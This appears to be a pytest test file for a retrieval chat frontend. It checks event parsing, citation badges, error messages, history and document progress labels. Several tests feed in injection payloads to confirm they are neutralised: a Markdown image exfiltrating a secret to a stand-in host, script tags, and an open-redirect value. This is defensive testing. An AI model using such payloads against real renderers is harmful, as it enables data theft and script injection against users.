"""The chat's pure parts: events, inert Markdown, and what it makes of the service's refusals."""

from __future__ import annotations

import json
from typing import get_args

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from frontend.client import Answer, Service, ServiceError, Source
from frontend.forms import refusal, sign_in_form
from frontend.markup import answered, inert, mark
from frontend.messages import Message, from_history, in_reading_order, last_question, one_line, unanswered
from frontend.progress import PROGRESS, busy, human_bytes, label, page_count, row, summary
from frontend.sse import Event, events
from rag_api.routes.documents import State

RENDERER = MarkdownIt("commonmark", {"html": True})


def test_events_are_read_across_lines_and_comments() -> None:
    lines = [
        ": heartbeat",
        "",
        "event: token",
        'data: {"text": "a"}',
        "",
        "data: one",
        "data:two",
        "",
        "event: lost",
        "",
    ]
    assert list(events(lines)) == [Event("token", '{"text": "a"}'), Event("message", "one\ntwo")]


@pytest.mark.parametrize(
    "attack",
    [
        "![x](https://evil.example/?q=secret)",
        "[click](https://evil.example)",
        "<img src=https://evil.example>",
        "<https://evil.example>",
        "[a]: https://evil.example\n\n![x][a]",
        "<script>alert(1)</script>",
    ],
)
def test_nothing_active_survives(attack: str) -> None:
    html = RENDERER.render(inert(attack))
    assert "<img" not in html
    assert "<a " not in html
    assert "<script" not in html
    assert "evil.example" not in attack or "evil.example" in html


@given(st.text(alphabet="![]()<>a\\\n :/htps.", max_size=60))
def test_no_text_at_all_becomes_an_image_or_a_link(text: str) -> None:
    html = RENDERER.render(inert(text))
    assert "<img" not in html
    assert "<a " not in html


def test_bare_addresses_lose_what_would_link_them() -> None:
    assert "https://" not in inert("see https://x")
    assert "www." not in inert("www.x.example")
    assert "@x" not in inert("ask a@x.example")


def test_emphasis_and_lists_stay() -> None:
    html = RENDERER.render(inert("**bold**\n\n- one\n- two"))
    assert "<strong>bold</strong>" in html
    assert html.count("<li>") == 2


def answering(status: int, body: object) -> Service:
    return Service("http://api", "t", httpx.MockTransport(lambda _request: httpx.Response(status, json=body)))


def test_a_refusal_is_the_service_s_own_sentence() -> None:
    service = answering(413, {"error": {"code": "too_large", "message": "a.pdf is larger than 50 MB. Split it."}})
    with pytest.raises(ServiceError, match=r"a\.pdf is larger than 50 MB") as refused:
        service.documents(limit=1)
    assert (refused.value.code, refused.value.status) == ("too_large", 413)


def test_an_answer_that_is_no_refusal_of_ours_still_gets_a_sentence() -> None:
    with pytest.raises(ServiceError, match="answered with status 502"):
        answering(502, "<html>").me()


def test_a_service_that_is_gone_says_what_to_do() -> None:
    def refuse(request: httpx.Request) -> httpx.Response:
        raise httpx.ConnectError("refused", request=request)

    with pytest.raises(ServiceError, match=r"cannot be reached.*try again in a minute"):
        Service("http://api", "t", httpx.MockTransport(refuse)).me()


def sse(name: str, **data: object) -> str:
    return f"event: {name}\ndata: {json.dumps(data)}\n\n"


SOURCE = {"n": 1, "document": "a.pdf", "page": 2, "heading": "Loads", "passage": "p", "cited": False}
HEAD: dict[str, object] = {"found": True, "conversation_id": "c1"}
STREAM = (
    sse("sources", sources=[SOURCE], **HEAD)
    + sse("token", text="One ")
    + sse("token", text="[1] ")
    + sse("done", answer="One [1]", sources=[SOURCE | {"cited": True}], **HEAD)
)


def streaming(text: str) -> Service:
    return Service("http://api", "t", httpx.MockTransport(lambda _request: httpx.Response(200, text=text)))


def test_a_streamed_answer_fills_text_sources_and_conversation() -> None:
    answer, seen = Answer(), []
    for word in streaming(STREAM).ask("q", answer):
        seen.append((word, answer.conversation_id, answer.sources[0].cited, answer.done))
    # The conversation is known before the first word, what is cited only after the last.
    assert seen == [("One ", "c1", False, False), ("[1] ", "c1", False, False)]
    assert (answer.text, answer.done, answer.sources[0].cited) == ("One [1]", True, True)
    assert answer.sources[0].place == "page 2 · Loads"


def test_an_error_in_the_middle_of_a_stream_is_raised_and_keeps_what_came() -> None:
    answer = Answer()
    broken = sse("token", text="One") + sse("error", code="model", message="The model stopped.")
    with pytest.raises(ServiceError, match=r"The model stopped\."):
        list(streaming(broken).ask("q", answer))
    assert (answer.text, answer.done) == ("One", False)


def source(n: int, *, cited: bool = False) -> Source:
    return Source(n, "a.pdf", None, "", "p", cited)


def test_a_place_names_only_what_is_known() -> None:
    assert source(1).place == ""
    assert Source(1, "a", 3, "", "p", True).place == "page 3"


def test_citations_bear_the_badge_of_their_passage() -> None:
    assert answered("Steel [1][2], see [9].", {1, 2}) == f"Steel {mark(1)} {mark(2)}, see \\[9\\]."
    assert answered("[1] says", {1}).strip() == f"{mark(1)} says"


@given(st.text(alphabet="![]()<>a1 :/htps.", max_size=60))
def test_badges_open_no_way_for_links(text: str) -> None:
    html = RENDERER.render(answered(text, {1}))
    assert "<img" not in html
    assert "<a " not in html


def test_cited_passages_are_read_first() -> None:
    sources = [source(1), source(2, cited=True), source(3), source(4, cited=True)]
    assert [item.n for item in in_reading_order(sources)] == [2, 4, 1, 3]


def test_history_shows_a_repeated_question_once_and_knows_what_is_open() -> None:
    asked: dict[str, object] = {"role": "user", "text": "q", "sources": [], "found": None}
    nothing = {"role": "assistant", "text": "a", "sources": [], "found": False}
    shown = from_history([asked, asked, nothing])
    assert shown == [Message("user", "q"), Message("assistant", "a", [], found=False)]
    assert unanswered(shown) is None
    assert unanswered(shown[:1]) == last_question(shown) == "q"
    assert unanswered([]) is None
    assert last_question([]) == ""


def test_titles_stay_on_one_line() -> None:
    assert one_line(" a\n b ") == "a b"
    assert one_line("What does the keep do", 15) == "What does the…"
    assert one_line("x" * 30, 10) == "x" * 9 + "…"


def test_the_sign_in_form_leads_only_to_conversations() -> None:
    identifier = "02d2886d-7c07-4847-b2a0-23e2e91d87b8"
    assert f'value="/?conversation={identifier}"' in sign_in_form(identifier)
    for bad in (None, "", '"><script>', "//evil.example", identifier + "x"):
        assert 'name="page" value="/"' in sign_in_form(bad)


def test_a_refusal_never_repeats_the_address_bar() -> None:
    assert "password is wrong" in refusal("wrong_credentials")
    assert "<b>" not in refusal("<b>")


def test_every_state_of_a_document_has_words_and_a_place_on_the_way() -> None:
    for state in get_args(State):
        assert label(state)
        assert (state in PROGRESS) == (state not in ("ready", "failed"))
    on_the_way = [PROGRESS[state] for state in ("received", "stored", "parsed", "chunked", "embedded", "indexed")]
    assert on_the_way == sorted(set(on_the_way))
    assert label("dreaming") == "dreaming"


def test_counts_become_one_line() -> None:
    counts = {"ready": 1200, "stored": 2, "embedded": 1, "failed": 1, "parsed": 0}
    assert summary(counts) == "1,200 ready · 3 on their way · 1 failed"
    assert summary({}) == "0 ready"
    assert busy(counts) == {"stored": 2, "embedded": 1}


@pytest.mark.parametrize(("number", "pages"), [(0, 1), (50, 1), (51, 2), (1400, 28)])
def test_pages(number: int, pages: int) -> None:
    assert page_count({"ready": number}, "ready", 50) == page_count({"ready": number}, None, 50) == pages


def test_a_document_as_a_row() -> None:
    item = {"name": "a", "state": "chunked", "pages": None, "bytes": 3, "created_at": "2026-01-02T03:04:05+00:00"}
    shown = row(item)
    assert (shown["State"], shown["Pages"], shown["Size"]) == ("Understanding", None, 3)
    assert shown["Added"].hour == 3


def test_sizes_for_people() -> None:
    assert [human_bytes(n) for n in (1, 200_000, 52_428_800, 1_600_000)] == ["1 KB", "195 KB", "50 MB", "1.526 MB"]
